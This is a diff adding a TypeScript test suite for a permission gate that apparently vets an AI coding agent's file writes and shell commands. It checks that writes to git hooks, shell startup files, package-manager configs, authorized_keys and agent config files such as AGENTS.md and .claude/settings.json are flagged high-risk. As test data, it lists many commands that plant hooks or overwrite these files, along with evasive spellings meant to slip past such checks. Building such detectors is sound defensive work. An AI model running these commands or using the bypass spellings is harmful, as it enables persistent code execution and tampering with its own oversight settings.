@@ -1,0 +1,242 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { givesOrders } from '../../../../src/rules/gate/orders/gives-orders.ts'
+import { judgeBash, judgeWith } from '../support/judge-with.ts'
+
+const open = { '*': 'allow', write: 'allow', edit: 'allow', bash: { '*': 'allow', 'x *': 'ask' } }
+const files = [
+  '.git/config',
+  '.git/hooks/pre-commit',
+  '.git/info/attributes',
+  '.git/modules/lib/config',
+  'lib/.git',
+  '.gitattributes',
+  '.gitmodules',
+  '.gitconfig',
+  '.npmrc',
+  'packages/a/.npmrc',
+  '.yarnrc.yml',
+  '.pnpmfile.cjs',
+  '.bashrc',
+  '.profile',
+  '.zshenv',
+  '.config/fish/config.fish',
+  '.envrc',
+  '.vscode/tasks.json',
+  '.idea/runConfigurations/x.xml',
+  '.husky/pre-commit',
+  '.pre-commit-config.yaml',
+  'lefthook.yml',
+  '.cargo/config.toml',
+  '.mvn/jvm.config',
+  '.gradle/init.d/x.gradle',
+  '.ssh/authorized_keys',
+  '.claude/settings.json',
+  '.cursor/hooks.json',
+  '.mcp.json',
+  'AGENTS.md',
+  'docs/CLAUDE.md',
+  '.devcontainer/devcontainer.json',
+  '.venv/lib/python3/site-packages/a.pth',
+  'lib/sitecustomize.py',
+  'bare.git/hooks/post-update',
+]
+
+describe('files from which programs take orders', () => {
+  test.each(files)('SHELL-11 %s is one, in any case and spelling', (file) => {
+    for (const spelled of [
+      file,
+      file.toUpperCase(),
+      file.replace('.', '.\u200c'),
+      `${file}. `,
+      `${file}::$DATA`,
+    ]) {
+      expect([spelled, givesOrders(spelled)]).toEqual([spelled, true])
+    }
+  })
+
+  test.each([
+    'src/a.ts',
+    'package.json',
+    'Makefile',
+    'tsconfig.json',
+    '.gitignore',
+    '.dockerignore',
+    '.editorconfig',
+    '.env.example',
+    '.nvmrc',
+    '.cache/x',
+    '.next/build',
+    'a.git.md',
+    'legit/config',
+    '.',
+    '..',
+    '../x',
+    '.ts',
+    '.json',
+    'notes/agents.md.txt',
+  ])('SHELL-11 %s is none', (file) => {
+    expect(givesOrders(file)).toBe(false)
+  })
+
+  test('SHELL-11 whatever lies in a folder that gives orders gives them too', () => {
+    const below = fc.array(fc.stringMatching(/^[a-z0-9]{1,8}$/), { minLength: 1, maxLength: 3 })
+    fc.assert(
+      fc.property(fc.constantFrom(...files), below, (file, parts) => {
+        expect(givesOrders([file, ...parts].join('/'))).toBe(true)
+      }),
+    )
+  })
+})
+
+describe('tools', () => {
+  const args: Readonly<Record<string, (path: string) => Record<string, unknown>>> = {
+    write: (path) => ({ path, content: 'x' }),
+    edit: (path) => ({ path, old_string: 'a', new_string: 'b' }),
+    create_directory: (path) => ({ path }),
+    copy_path: (destination) => ({ source: 'src/a', destination }),
+    move_path: (destination) => ({ source: 'src/a', destination }),
+    put_file: (path) => ({ path, bytes: 1, sha256: '0'.repeat(64) }),
+  }
+  const spellings = (file: string) => [file, `./${file}`, `src/../${file}`, `~/${file}`]
+
+  test.each(Object.keys(args))(
+    'SHELL-11 %s of one asks with high risk, whatever rule allows it',
+    (tool) => {
+      for (const path of files.flatMap(spellings)) {
+        const verdict = judgeWith(tool, args[tool]?.(path) ?? {}, { permissions: open })
+        expect([path, verdict.action, verdict.risk]).toEqual([path, 'ask', 'high'])
+        expect(verdict.alwaysPatterns).toEqual([])
+        expect(verdict.reasons.join()).toContain('from which programs may take what they run')
+      }
+    },
+  )
+
+  test('SHELL-11 so does a write whose real path is one, as the executor reports it', () => {
+    const args = { path: 'notes', content: 'x' }
+    expect(judgeWith('write', args, { permissions: open }).action).toBe('allow')
+    const canonical = ['/workspace/.git/hooks/pre-commit']
+    expect(judgeWith('write', args, { permissions: open, canonical }).action).toBe('ask')
+  })
+
+  test('SHELL-11 a place that may be reached outside counts from its own root', () => {
+    const facts = { allowedPaths: ['/workspace', '/srv/.work/app'] }
+    const write = (path: string) =>
+      judgeWith('write', { path, content: 'x' }, { permissions: open, facts }).action
+    expect(write('/srv/.work/app/src/a.ts')).toBe('allow')
+    expect(write('/srv/.work/app/.git/hooks/pre-push')).toBe('ask')
+  })
+
+  test('SHELL-11 reading one, and writing ordinary files, stays silent', () => {
+    for (const path of ['package.json', 'src/a.ts', '.gitignore', 'Makefile']) {
+      const verdict = judgeWith('write', { path, content: 'x' }, { permissions: open })
+      expect(verdict.action).toBe('allow')
+    }
+    for (const path of ['.git/config', '.npmrc', 'AGENTS.md']) {
+      expect(judgeWith('read', { path }, { permissions: open }).action).toBe('allow')
+    }
+  })
+
+  test('GATE-10 with the gate switched off nothing asks', () => {
+    const args = { path: '.npmrc', content: 'x' }
+    expect(judgeWith('write', args, { permissions: { '*': 'allow' } }).action).toBe('allow')
+  })
+})
+
+describe('commands', () => {
+  const verdictOf = (command: string) => judgeBash(command, { permissions: open })
+
+  test.each([
+    'tar -xf a.tar --index-file=.git/hooks/pre-commit',
+    'tar --index-file .git/hooks/pre-commit -xf a.tar',
+    'tar -C .git/hooks -xf a.tar',
+    'tar -xC.git/hooks -f a.tar',
+    'unzip -d .vscode a.zip',
+    'unzip a.zip -d.vscode',
+    'patch .bashrc a.patch',
+    'patch -o .bashrc a b',
+    'split -b 9 a .git/hooks/',
+    'gcc -o .git/hooks/pre-commit a.c',
+    'gcc -o.git/hooks/pre-commit a.c',
+    'go build -o .husky/pre-commit ./cmd',
+    'gunzip .git/hooks/pre-commit.gz',
+    'chmod +x .git/hooks/pre-commit',
+    'cp a .npmrc',
+    'cp -t .git/hooks a',
+    'cp --target-directory=.git/hooks a',
+    'mv a .envrc',
+    'ln -s ../a .git/hooks/pre-commit',
+    'install -m 755 a .git/hooks/pre-commit',
+    'rsync -a hooks/ .git/hooks/',
+    'dd if=a of=.bashrc',
+    'tee .profile < a',
+    'touch .envrc',
+    'truncate -s 0 .gitattributes',
+    'curl -o .bashrc https://x.example/y',
+    'curl --output=.bashrc https://x.example/y',
+    'wget -O .bashrc https://x.example/y',
+    'sed -i s/a/b/ .npmrc',
+    'sed -ni s/a/b/p .npmrc',
+    'sed --in-place=.bak s/a/b/ .npmrc',
+    'sort -o .npmrc a',
+    'yq -i .a=1 .pre-commit-config.yaml',
+    'mkdir -p .git/hooks',
+    'git mv a .husky/pre-commit',
+    'git checkout main -- .husky',
+    'git restore .gitattributes',
+    'git diff --output=.bashrc',
+    'npm pack --pack-destination .husky',
+    'ffmpeg -i a .bashrc',
+    './build .git/hooks',
+    './cat .git/hooks/x',
+    'strangetool .GIT/Config',
+    'strangetool a --into=.Git/hooks',
+    'strangetool ~/.bashrc',
+    'strangetool src/../.git/config',
+    'strangetool .g*t/config',
+    'strangetool .{git,x}/config',
+    'strangetool AGENTS.md',
+    'cd .git && strangetool hooks/pre-commit',
+    'cd .git/hooks; cp ../../a pre-commit',
+    'cd src && cp a ../.husky/pre-commit',
+    'sudo cp a .npmrc',
+    'nohup tee .npmrc',
+    'find . -name x -fprint .npmrc',
+  ])('SHELL-11 %s asks with high risk and offers no *Always*', (command) => {
+    const { action, risk, alwaysPatterns } = verdictOf(command)
+    expect([action, risk, alwaysPatterns]).toEqual(['ask', 'high', []])
+  })
+
+  test.each([
+    'cat .npmrc',
+    'head -5 .git/config',
+    'grep -rn x .github',
+    'ls -la .git/hooks',
+    'diff .npmrc other/.npmrc',
+    'git add .gitattributes .husky/pre-commit AGENTS.md',
+    'git commit -m ".npmrc: drop the registry" .npmrc',
+    'git diff .github/workflows/ci.yml',
+    'git log --oneline -- .eslintrc.json',
+    'wc -l .eslintrc.json',
+    'stat .bashrc',
+    'tar --exclude=.git -czf out.tgz src',
+    'tar --exclude .git -czf out.tgz src',
+    'rsync -a --exclude .git src out',
+    "find . -name '.git' -prune -print",
+    "rg --hidden -g '!.git' TODO",
+    'rm -rf .next .pytest_cache',
+    'du -sh .git',
+    'jq . .mcp.json',
+    "sed -n '1,5p' .npmrc",
+    'cp .gitignore other/.gitignore',
+    'mkdir -p .cache/x',
+    'cp src/a.ts src/b.ts',
+    'gcc -o out/a a.c',
+    'eslint src --ext .ts,.tsx',
+    "sqlite3 x.db '.schema t'",
+    'cd .github && ls',
+    'echo .npmrc',
+  ])('SHELL-11 SHELL-12 %s stays silent', (command) => {
+    expect(verdictOf(command).reasons).toEqual([])
+  })
+})
